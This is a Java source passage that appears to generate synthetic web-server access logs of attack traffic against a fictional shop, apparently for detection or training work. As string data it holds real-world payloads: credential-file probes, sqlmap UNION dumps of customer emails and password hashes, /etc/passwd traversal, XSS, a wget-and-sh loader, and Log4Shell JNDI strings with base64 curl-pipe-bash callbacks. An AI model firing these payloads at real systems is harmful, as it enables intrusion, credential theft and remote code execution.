    // ---------------------------------------------------------------- scans and exploits

    /** Scanners, exploit bots and injection attempts, each from hosting space no visitor uses. */
    static final class Scans {
        private static final String[] PROBES = {
            "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.htaccess", "/.htpasswd",
            "/.aws/credentials", "/.ssh/id_rsa", "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php",
            "/wp-content/plugins/", "/wp-includes/wlwmanifest.xml", "/xmlrpc.php", "/wp-config.php.bak",
            "/phpmyadmin/", "/phpMyAdmin/", "/pma/", "/myadmin/", "/dbadmin/", "/server-status", "/server-info",
            "/admin.php", "/admin/", "/administrator/", "/login.php", "/manager/html", "/console/",
            "/jmx-console/", "/solr/admin/", "/actuator/env", "/actuator/health", "/jolokia/list",
            "/cgi-bin/test-cgi", "/cgi-bin/printenv", "/cgi-bin/php", "/cgi-bin/luci", "/cgi-bin/admin.cgi",
            "/phpinfo.php", "/info.php", "/test.php", "/shell.php", "/config.php", "/install.php",
            "/backup.zip", "/backup.tar.gz", "/backup.sql", "/db.sql", "/dump.sql", "/www.zip", "/config.json",
            "/config.yml", "/web.config", "/WEB-INF/web.xml", "/crossdomain.xml", "/sitemap.xml", "/README",
            "/CHANGELOG.txt", "/readme.html", "/elmah.axd", "/trace.axd", "/debug/default/view",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_profiler/phpinfo", "/swagger-ui.html",
            "/api/swagger.json", "/graphql", "/.well-known/security.txt", "/robots.txt"
        };
        private static final String[] NUCLEI_ONLY = {
            "/wp-json/wp/v2/users", "/owa/auth/logon.aspx", "/remote/login", "/+CSCOE+/logon.html",
            "/global-protect/login.esp", "/vpn/index.html", "/dana-na/auth/url_default/welcome.cgi",
            "/api/jsonws/invoke", "/nacos/v1/auth/users?pageNo=1&pageSize=9", "/druid/index.html", "/script",
            "/_ignition/health-check", "/storage/logs/laravel.log", "/.vscode/sftp.json", "/docker-compose.yml",
            "/.dockerenv", "/server.key", "/.npmrc", "/.git-credentials", "/config/getuser?index=0",
            "/s/0363e2836313e2830313e23323/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties"
        };
        private static final String[] WORDS = {
            "admin", "backup", "old", "test", "tmp", "db", "data", "files", "upload", "private", "secret",
            "logs", "install", "site", "dev", "staging", "api", "include"
        };
        private static final String[] EXTENSIONS = {"/", ".php", ".bak", ".zip", ".sql", ".tar.gz", ".old", ".txt"};
        private static final String[] BOT_AGENTS = {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
            "python-requests/2.32.3", "Go-http-client/1.1", "curl/8.7.1", "l9explore/1.2.2",
            "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
            "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day "
                    + "to identify customers' presences on the Internet. If you would like to be excluded from our "
                    + "scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"
        };
        // What opportunistic bots try, several paths per kit, from the same address within seconds.
        private static final String[][] KITS = {
            {"/.env", "/api/.env", "/backend/.env", "/app/.env", "/.env.production", "/laravel/.env"},
            {"/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wordpress/wp-admin/setup-config.php",
                "/wp-content/plugins/wp-file-manager/readme.txt"},
            {"/.git/config", "/.git/HEAD", "/.git/index"},
            {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/index.php?s=/Index/\\think\\app/invokefunction"
                + "&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"},
            {"/boaform/admin/formLogin?username=adminisp&psd=adminisp", "/HNAP1/", "/GponForm/diag_Form?images/"},
            {"/", "/favicon.ico", "/robots.txt"}
        };

        private final Day day;
        private final SplittableRandom r;
        private final Addresses addresses;

        Scans(Day day, SplittableRandom r, Addresses addresses) {
            this.day = day;
            this.r = r;
            this.addresses = addresses;
        }

        void emit(Sink sink) {
            nikto(sink);
            nuclei(sink);
            sqlmap(sink);
            banners(sink);
            bots(sink);
            garbage(sink);
            traversal(sink);
            injection(sink);
            headerInjection(sink);
            log4shell(sink);
        }

        private Actor attacker(String agent, String protocol) {
            return new Actor(addresses.hosting(), agent, protocol);
        }

        /** Nikto runs a fixed list fast and names the test in its user agent. */
        private void nikto(Sink sink) {
            String ip = addresses.hosting();
            long t = day.startOf(r, 900);
            List<String> paths = new ArrayList<>(List.of("/", "/robots.txt"));
            paths.addAll(List.of(PROBES));
            for (String word : WORDS) {
                for (String extension : EXTENSIONS) {
                    paths.add("/" + word + extension);
                }
            }
            for (int i = 0; i < paths.size(); i++) {
                String test = i == 0 ? "Port Check" : i == 1 ? "map_codes" : String.format(Locale.ROOT, "%06d", 3 + i * 7);
                String agent = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:" + test + ")";
                Response response = Site.probe(paths.get(i));
                sink.add(new Hit(t, ip, null, "GET " + paths.get(i) + " HTTP/1.1", response.status(),
                        response.bytes(), null, agent));
                t += r.nextInt(100) < 40 ? 1 : 0;
            }
        }

        private void nuclei(Sink sink) {
            Actor nuclei = attacker("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "HTTP/1.1");
            long t = day.startOf(r, 900);
            List<String> paths = new ArrayList<>(List.of(PROBES));
            paths.addAll(List.of(NUCLEI_ONLY));
            for (int i = 0; i < paths.size(); i++) {
                String path = paths.get(r.nextInt(paths.size()));
                sink.add(nuclei.hit(t, "GET", path, Site.probe(path), null));
                t += r.nextInt(3);
            }
        }

        /** sqlmap against the legacy product id parameter; the answers tell it what works. */
        private void sqlmap(Sink sink) {
            Actor sqlmap = attacker("sqlmap/1.9.4#stable (https://sqlmap.org)", "HTTP/1.1");
            Response page = new Response(200, Site.stable("/products?id=7", 6_800, 8_900));
            List<Injection> steps = new ArrayList<>();
            heuristics(page, steps);
            booleans(page, steps);
            columns(page, steps);
            dump(page, steps);
            long t = day.startOf(r, 1_200);
            for (Injection step : steps) {
                sink.add(sqlmap.hit(t, "GET", "/products?id=" + step.id(), step.response(), null));
                t += r.nextInt(4);
            }
        }

        /** A value sqlmap sends for {@code id} and what the shop answered. */
        record Injection(String id, Response response) {}

        /** The original value, the WAF check, then quotes that make the database complain. */
        private void heuristics(Response page, List<Injection> steps) {
            steps.add(new Injection("7", page));
            steps.add(new Injection("7&" + letters(r, 4) + "=" + r.nextInt(1000, 9999) + "%20AND%201%3D1%20UNION%20ALL"
                    + "%20SELECT%201%2CNULL%2C%27%3Cscript%3Ealert%28%22XSS%22%29%3C%2Fscript%3E%27%20FROM%20information_"
                    + "schema.tables%20WHERE%202%3E1--%2F%2A%2A%2F%3B%20EXEC%20xp_cmdshell%28%27cat%20..%2F..%2F..%2F"
                    + "etc%2Fpasswd%27%29%23", page));
            steps.add(new Injection("7.%22%28%28%27%2C%29%28%29%27", Site.APP_500));
            steps.add(new Injection("7%27" + letters(r, 6) + "%3C%27%22%3E" + letters(r, 6), Site.APP_500));
        }

        /** Pairs of true and false conditions (the page, then a 404), then a time-based check. */
        private void booleans(Response page, List<Injection> steps) {
            for (int i = 0; i < 8; i++) {
                int n = r.nextInt(1000, 9999);
                steps.add(new Injection("7%20AND%20" + n + "%3D" + n, page));
                steps.add(new Injection("7%20AND%20" + n + "%3D" + r.nextInt(1000, 9999), Site.APP_404));
            }
            steps.add(new Injection("7%20AND%20%28SELECT%20" + r.nextInt(1000, 9999)
                    + "%20FROM%20%28SELECT%28SLEEP%285%29%29%29" + letters(r, 4) + "%29", page));
        }

        /** Counting columns: ORDER BY and UNION fail with a 500 until they match the six the query has. */
        private void columns(Response page, List<Injection> steps) {
            for (int k = 1; k <= 10; k++) {
                steps.add(new Injection("7%20ORDER%20BY%20" + k + "--%20-", k <= 6 ? page : Site.APP_500));
            }
            for (int k = 1; k <= 6; k++) {
                String nulls = String.join("%2C", Collections.nCopies(k, "NULL"));
                steps.add(new Injection("7%20UNION%20ALL%20SELECT%20" + nulls + "--%20-", k == 6 ? page : Site.APP_500));
            }
        }

        /** Dumping customers a row at a time; each answer is the page plus the leaked row. */
        private void dump(Response page, List<Injection> steps) {
            Response leaked = new Response(200, page.bytes() + 180);
            for (int row = 0; row < 12; row++) {
                steps.add(new Injection("-" + r.nextInt(1000, 9999) + "%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%28"
                        + "0x7178627a71%2CIFNULL%28CAST%28email%20AS%20NCHAR%29%2C0x20%29%2C0x6b6b7574%2CIFNULL%28CAST"
                        + "%28password_hash%20AS%20NCHAR%29%2C0x20%29%2C0x7170767871%29%2CNULL%2CNULL%2CNULL%2CNULL"
                        + "%20FROM%20shop.customers%20LIMIT%20" + row + "%2C1--%20-", leaked));
            }
        }

        /** masscan and zgrab only grab the banner of the home page. */
        private void banners(Sink sink) {
            for (int i = 0; i < 3; i++) {
                Actor masscan = attacker("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "HTTP/1.0");
                sink.add(masscan.hit(day.anytime(r), "GET", "/", Site.probe("/"), null));
            }
            for (int i = 0; i < 4; i++) {
                Actor zgrab = attacker("Mozilla/5.0 zgrab/0.x", "HTTP/1.1");
                long t = day.anytime(r);
                sink.add(zgrab.hit(t, "GET", "/", Site.probe("/"), null));
                if (r.nextBoolean()) {
                    sink.add(zgrab.hit(t + 1, "GET", "/.env", Site.probe("/.env"), null));
                }
            }
        }

        /** Background noise every public server sees: one kit per bot, a few paths in a few seconds. */
        private void bots(Sink sink) {
            for (int i = 0; i < 28; i++) {
                Actor bot = attacker(pick(r, BOT_AGENTS), "HTTP/1.1");
                long t = day.anytime(r);
                for (String path : KITS[r.nextInt(KITS.length)]) {
                    String method = path.contains("eval-stdin") || path.startsWith("/GponForm") ? "POST" : "GET";
                    sink.add(bot.hit(t, method, path, Site.probe(path), null));
                    t += r.nextInt(3);
                }
            }
            Actor mozi = attacker("Hello, world", "HTTP/1.0");
            String loader = "/shell?cd+/tmp;rm+-rf+*;wget+http://" + mozi.ip() + "/jaws;sh+/tmp/jaws";
            sink.add(mozi.hit(day.anytime(r), "GET", loader, Site.probe(loader), null));
        }

        /** Requests nginx cannot make sense of: TLS on the plain port, empty lines, proxy checks. */
        private void garbage(Sink sink) {
            String clientHello = "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003";
            for (int i = 0; i < 6; i++) {
                String ip = addresses.hosting();
                long t = day.anytime(r);
                String request = i % 3 == 0 ? "" : i % 3 == 1 ? clientHello + letters(r, 6) : "CONNECT www.google.com:443 HTTP/1.1";
                long bytes = request.isEmpty() ? 0 : Site.NGINX_400.bytes();
                sink.add(new Hit(t, ip, null, request, 400, bytes, null, null));
            }
        }

        /** One address runs a traversal list in a few minutes; a script retries some all day. */
        private void traversal(Sink sink) {
            String[] targets = {
                "/../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/download?file=../../../../etc/shadow",
                "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/static/../../../../etc/passwd",
                "/images/..%5c..%5c..%5cwindows%5cwin.ini", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
                "/index.php?page=../../../../../../etc/passwd%00", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                "/..%252f..%252f..%252fetc/passwd", "/static/css/..;/..;/WEB-INF/web.xml",
                "/api/files?path=/etc/passwd", "/download?file=php://filter/convert.base64-encode/resource=index.php",
                "/?file=....//....//....//etc/passwd"
            };
            Actor curl = attacker("curl/8.5.0", "HTTP/1.1");
            long t = day.startOf(r, 300);
            for (String target : targets) {
                sink.add(curl.hit(t, "GET", target, Site.probe(target), null));
                t += r.nextInt(1, 6);
            }
            Actor script = attacker("python-requests/2.31.0", "HTTP/1.1");
            for (int i = 0; i < 10; i++) {
                String target = targets[r.nextInt(targets.length)];
                sink.add(script.hit(day.anytime(r), "GET", target, Site.probe(target), null));
            }
        }

        /** Someone at a keyboard trying SQL injection and XSS by hand over half an hour. */
        private void injection(Sink sink) {
            String[][] tries = {
                {"/products?id=1'", "500"}, {"/products?id=1'+OR+'1'='1", "200"},
                {"/products?id=1%27%20OR%20%271%27%3D%271", "200"}, {"/products?id=1%20UNION%20SELECT%201,2,3,4,5,6--", "200"},
                {"/products?id=-1%20UNION%20SELECT%201,username,password,4,5,6%20FROM%20users--", "200"},
                {"/products?id=1;DROP%20TABLE%20users--", "500"}, {"/search?q=%27%20OR%201=1--", "200"},
                {"/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "200"},
                {"/search?q=%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E", "200"},
                {"/search?q=\"><svg/onload=alert(1)>", "200"},
                {"/blog/gift-guide-2026?utm_source=%3Cscript%3Ealert(%27xss%27)%3C/script%3E", "200"},
                {"/login?next=javascript:alert(1)", "200"}
            };
            Actor browser = attacker("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "HTTP/1.1");
            long t = day.startOf(r, 2_400);
            for (String[] attempt : tries) {
                Response response = attempt[1].equals("500") ? Site.APP_500
                        : new Response(200, Site.pageSize(attempt[0], r));
                sink.add(browser.hit(t, "GET", attempt[0], response, null));
                t += 30 + r.nextInt(180);
            }
            // The same person switches to curl, which sends spaces unencoded; nginx refuses the line.
            Actor curl = new Actor(browser.ip(), "curl/8.5.0", "HTTP/1.1");
            sink.add(curl.hit(t, "GET", "/products?id=1' OR '1'='1", Site.NGINX_400, null));
            sink.add(curl.hit(t + 4, "GET", "/search?q=<img src=x onerror=alert(1)>", Site.NGINX_400, null));
        }

        /** Payloads in the headers, where a quote in the value must be escaped in the log. */
        private void headerInjection(Sink sink) {
            Actor xss = attacker("<script>alert(\"xss\")</script>", "HTTP/1.1");
            long t = day.anytime(r);
            sink.add(xss.hit(t, "GET", "/", Site.probe("/"), "javascript:alert(\"referer\")"));
            sink.add(xss.hit(t + 2, "GET", "/blog", 200, Site.pageSize("/blog", r), "\"><script>alert(1)</script>"));
        }

        /** Log4Shell lookups in the user agent, referrer and query, calling back to the sender. */
        private void log4shell(Sink sink) {
            for (int i = 0; i < 3; i++) {
                String ip = addresses.hosting();
                String callback = ip + ":1389";
                String command = Base64.getEncoder().encodeToString(
                        ("(curl -s " + ip + ":5874/sh||wget -q -O- " + ip + ":5874/sh)|bash").getBytes(StandardCharsets.US_ASCII));
                String[] agents = {
                    "${jndi:ldap://" + callback + "/Basic/Command/Base64/" + command + "}",
                    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + callback + "/a}",
                    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + ip + ":1099/o}",
                    "${jndi:dns://" + ip + "/ua}"
                };
                long t = day.anytime(r);
                for (String path : new String[] {"/", "/?x=${jndi:ldap://" + callback + "/q}", "/api/cart", "/login"}) {
                    Actor actor = new Actor(ip, pick(r, agents), "HTTP/1.1");
                    Response response = path.equals("/api/cart") ? new Response(200, 86)
                            : new Response(200, Site.pageSize(path.startsWith("/?") ? "/" : path, r));
                    sink.add(actor.hit(t, "GET", path, response, "${jndi:ldap://" + callback + "/ref}"));
                    t += r.nextInt(1, 4);
                }
            }
        }
    }

    // ---------------------------------------------------------------- logins

    /** Attacks on sign-in: fast bursts, a credential-stuffing wave and one patient brute force. */
    static final class Logins {
        private static final int BURSTS = 7;
        private static final String[] TOOLS = {"Mozilla/5.0 (Hydra)", "python-requests/2.31.0", "Go-http-client/1.1"};
        private static final String[] BASIC_USERS = {
            "admin", "root", "test", "administrator", "user", "guest", "support", "ubuntu", "pi", "oracle"
        };
        // Stuffing services reuse a handful of stale user agents across all their proxies.
        private static final String[] STUFFERS = {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1"
        };
        // The app locks an account after five failures within fifteen minutes.
        private static final int LOCKOUT = 5;

        private final Day day;
        private final SplittableRandom r;
        private final Addresses addresses;

        Logins(Day day, SplittableRandom r, Addresses addresses) {
            this.day = day;
            this.r = r;
            this.addresses = addresses;
        }

        void emit(Sink sink) {
            for (int i = 0; i < BURSTS; i++) {
                // One burst per slot spreads them over the day instead of letting chance bunch them.
                long start = day.startInSlot(r, i, BURSTS, 600);
                if (i % 2 == 0) {
                    formBurst(start, sink);
                } else {
                    basicAuthBurst(start, sink);
                }
            }
            stuffing(sink);
            slowBruteForce(sink);
        }

        /** Failed form logins from one address; after the lockout the app answers 403. */
        private void formBurst(long t, Sink sink) {
            Actor tool = new Actor(addresses.hosting(), pick(r, TOOLS), "HTTP/1.1");
            int attempts = r.nextInt(12, 41);
            for (int i = 0; i < attempts; i++) {
                Response response = i < LOCKOUT ? Site.LOGIN_FAILED : Site.LOCKED;
                sink.add(tool.hit(t, "POST", "/login", response, Site.ORIGIN + "/login"));
                t += r.nextInt(1, 9);
            }
        }

        /** Guessing HTTP basic auth on /admin/: nginx logs the user name even when it is refused. */
        private void basicAuthBurst(long t, Sink sink) {
            String ip = addresses.hosting();
            String agent = r.nextBoolean() ? "Mozilla/5.0 (Hydra)" : "curl/7.88.1";
            int attempts = r.nextInt(10, 31);
            for (int i = 0; i < attempts; i++) {
                // The first request carries no credentials; it only learns that auth is required.
                String user = i == 0 ? null : BASIC_USERS[(i - 1) % BASIC_USERS.length];
                sink.add(new Hit(t, ip, user, "GET /admin/ HTTP/1.1", Site.NGINX_401.status(),
                        Site.NGINX_401.bytes(), null, agent));
                t += r.nextInt(1, 7);
            }
        }

        /** Leaked pairs tried from many proxies, each address staying under per-address limits. */
        private void stuffing(Sink sink) {
            long start = day.startOf(r, 3_600);
            for (int i = 0; i < 90; i++) {
                Actor proxy = new Actor(addresses.proxy(), pick(r, STUFFERS), "HTTP/1.1");
                long t = start + r.nextLong(2_700);
                sink.add(proxy.hit(t, "GET", "/login", 200, Site.pageSize("/login", r), null));
                int tries = r.nextInt(1, 5);
                for (int k = 0; k < tries; k++) {
                    t += r.nextInt(15, 75);
                    sink.add(proxy.hit(t, "POST", "/login", Site.LOGIN_FAILED, Site.ORIGIN + "/login"));
                }
                if (i % 40 == 7) {
                    // A few leaked passwords are still in use.
                    sink.add(proxy.hit(t + r.nextInt(15, 75), "POST", "/login", Site.REDIRECT, Site.ORIGIN + "/login"));
                    sink.add(proxy.hit(t + 80, "GET", "/account", 200, Site.pageSize("/account", r), Site.ORIGIN + "/login"));
                }
            }
        }

        /** One address, one failure every ten minutes or so, under the lockout, until it gets in. */
        private void slowBruteForce(Sink sink) {
            Actor actor = new Actor(addresses.hosting(),
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0", "HTTP/1.1");
            long t = day.startOf(r, 11 * 3_600);
            String login = Site.ORIGIN + "/login";
            int attempts = r.nextInt(48, 61);
            for (int i = 0; i < attempts; i++) {
                sink.add(actor.hit(t, "POST", "/login", Site.LOGIN_FAILED, login));
                t += r.nextInt(420, 841);
            }
            sink.add(actor.hit(t, "POST", "/login", Site.REDIRECT, login));
            String[] takeover = {"/account", "/account/orders", "/account/addresses", "/account/email"};
            for (String page : takeover) {
                t += r.nextInt(5, 40);
                sink.add(actor.hit(t, "GET", page, 200, Site.pageSize(page, r), login));
            }
            sink.add(actor.hit(t + r.nextInt(20, 60), "POST", "/account/email", Site.REDIRECT, Site.ORIGIN + "/account/email"));
        }
    }
}
